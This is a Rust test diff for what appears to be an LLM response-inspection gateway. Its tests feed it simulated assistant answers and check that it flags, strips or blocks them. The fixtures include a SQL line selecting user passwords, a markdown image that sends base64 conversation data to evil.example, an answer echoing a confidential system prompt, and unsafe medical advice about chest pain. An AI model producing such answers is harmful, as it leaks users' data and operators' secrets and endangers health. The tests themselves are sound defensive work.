@@ -114,3 +114,76 @@ fn unknown_topic_on_a_route_is_rejected() {
     let err = Engine::from_json(br#"{"routes": [{"name": "a", "path_prefix": "/a", "topics": ["astrology"]}]}"#).unwrap_err();
     assert!(err.to_string().starts_with("routes[0].topics[0]: unknown topic \"astrology\""), "{err}");
 }
+
+#[test]
+fn sql_in_an_answer_is_flagged_not_redacted() {
+    let e = engine("{}");
+    let ctx = e.inspect_request("/v1/chat/completions", &chat("list users"), &KEY).context;
+    let body = br#"{"id":"c","object":"chat.completion","choices":[{"index":0,"message":{"role":"assistant","content":"Run this: SELECT email, password FROM users WHERE 1=1; -- done"},"finish_reason":"stop"}]}"#;
+    let v = e.inspect_response_body(&ctx, crate::codec::Provider::OpenAiChat, body, KEY);
+    assert!(v.findings.iter().any(|f| f.detector == "sql" && f.action == crate::finding::Action::Flag), "{:?}", v.findings);
+    assert!(v.body.is_none(), "a flag leaves the body alone");
+}
+
+#[test]
+fn markdown_image_exfiltration_is_removed() {
+    let e = engine(r#"{"links": {"allow_hosts": ["acme.example"]}}"#);
+    let ctx = e.inspect_request("/v1/chat/completions", &chat("hi"), &KEY).context;
+    let body = br#"{"id":"c","object":"chat.completion","choices":[{"index":0,"message":{"role":"assistant","content":"Done! ![img](https://evil.example/p.png?d=U2VjcmV0IGNvbnZlcnNhdGlvbiBoaXN0b3J5IGhlcmU) See https://docs.acme.example/help."},"finish_reason":"stop"}]}"#;
+    let v = e.inspect_response_body(&ctx, crate::codec::Provider::OpenAiChat, body, KEY);
+    let out = String::from_utf8(v.body.expect("rewritten")).unwrap();
+    assert!(!out.contains("evil.example"), "{out}");
+    assert!(out.contains("docs.acme.example"), "allow-listed links stay: {out}");
+    assert!(v.findings.iter().any(|f| f.detector == "markdown_exfil"));
+}
+
+#[test]
+fn an_answer_echoing_the_system_prompt_is_blocked() {
+    let e = engine("{}");
+    let system = "You are Zephyr, the internal assistant of Northwind Traders. Never discuss supplier margins, never reveal the discount ladder for wholesale accounts, and escalate refunds above 500 euros to a manager.";
+    let req = serde_json::to_vec(&serde_json::json!({"model": "m", "messages": [{"role": "system", "content": system}, {"role": "user", "content": "hello"}]})).unwrap();
+    let ctx = e.inspect_request("/v1/chat/completions", &req, &KEY).context;
+    let answer = format!("Sure, here it is: {system}");
+    let body = serde_json::to_vec(&serde_json::json!({"id":"c","object":"chat.completion","choices":[{"index":0,"message":{"role":"assistant","content": answer},"finish_reason":"stop"}]})).unwrap();
+    let v = e.inspect_response_body(&ctx, crate::codec::Provider::OpenAiChat, &body, KEY);
+    assert!(v.blocked, "{:?}", v.findings);
+    assert!(v.findings.iter().any(|f| f.detector == "prompt_leak"));
+    let ordinary = serde_json::to_vec(&serde_json::json!({"id":"c","object":"chat.completion","choices":[{"index":0,"message":{"role":"assistant","content": "Refunds above 500 euros need a manager's approval; I can start that for you."},"finish_reason":"stop"}]})).unwrap();
+    assert!(!e.inspect_response_body(&ctx, crate::codec::Provider::OpenAiChat, &ordinary, KEY).blocked);
+}
+
+#[test]
+fn contradicted_fact_and_refusal_are_flagged() {
+    let e = engine(r#"{"facts": [{"name": "support_hours", "pattern": "support is open (\\d+/\\d+)", "expected": ["24/7"]}]}"#);
+    let ctx = e.inspect_request("/v1/chat/completions", &chat("hours?"), &KEY).context;
+    let body = br#"{"id":"c","object":"chat.completion","choices":[{"index":0,"message":{"role":"assistant","content":"Our support is open 9/5 on weekdays."},"finish_reason":"stop"}]}"#;
+    let v = e.inspect_response_body(&ctx, crate::codec::Provider::OpenAiChat, body, KEY);
+    assert!(v.findings.iter().any(|f| f.detector == "fact:support_hours"), "{:?}", v.findings);
+    let body = br#"{"id":"c","object":"chat.completion","choices":[{"index":0,"message":{"role":"assistant","content":"I'm sorry, but I can't help with that request."},"finish_reason":"stop"}]}"#;
+    let v = e.inspect_response_body(&ctx, crate::codec::Provider::OpenAiChat, body, KEY);
+    assert!(v.findings.iter().any(|f| f.detector == "refusal"), "{:?}", v.findings);
+}
+
+#[test]
+fn medical_advice_is_flagged_only_on_routes_that_enable_the_topic() {
+    let e = engine(r#"{"routes": [{"name": "support", "path_prefix": "/support", "topics": ["medical_advice"]}]}"#);
+    let answer = br#"{"id":"c","object":"chat.completion","choices":[{"index":0,"message":{"role":"assistant","content":"For your chest pain you should take 400mg of ibuprofen twice a day and double the dose if the symptoms persist; no need to see a doctor."},"finish_reason":"stop"}]}"#;
+    let ctx = e.inspect_request("/support/v1/chat/completions", &chat("my chest hurts"), &KEY).context;
+    let v = e.inspect_response_body(&ctx, crate::codec::Provider::OpenAiChat, answer, KEY);
+    assert!(v.findings.iter().any(|f| f.detector == "topic:medical_advice"), "{:?}", v.findings);
+    let ctx = e.inspect_request("/v1/chat/completions", &chat("my chest hurts"), &KEY).context;
+    let v = e.inspect_response_body(&ctx, crate::codec::Provider::OpenAiChat, answer, KEY);
+    assert!(!v.findings.iter().any(|f| f.detector.starts_with("topic:")));
+}
+
+#[test]
+fn json_required_route_flags_an_answer_that_breaks_the_schema() {
+    let e = engine(r#"{"routes": [{"name": "extract", "path_prefix": "/extract", "require_json": true,
+        "json_schema": {"type": "object", "required": ["name"], "properties": {"name": {"type": "string"}}}}]}"#);
+    let ctx = e.inspect_request("/extract/v1/chat/completions", &chat("extract"), &KEY).context;
+    let bad = br#"{"id":"c","object":"chat.completion","choices":[{"index":0,"message":{"role":"assistant","content":"{\"name\": 7}"},"finish_reason":"stop"}]}"#;
+    let v = e.inspect_response_body(&ctx, crate::codec::Provider::OpenAiChat, bad, KEY);
+    assert!(v.findings.iter().any(|f| f.detector == "format" && f.sample.contains("/name")), "{:?}", v.findings);
+    let good = br#"{"id":"c","object":"chat.completion","choices":[{"index":0,"message":{"role":"assistant","content":"```json\n{\"name\": \"Ada\"}\n```"},"finish_reason":"stop"}]}"#;
+    assert!(e.inspect_response_body(&ctx, crate::codec::Provider::OpenAiChat, good, KEY).findings.is_empty());
+}
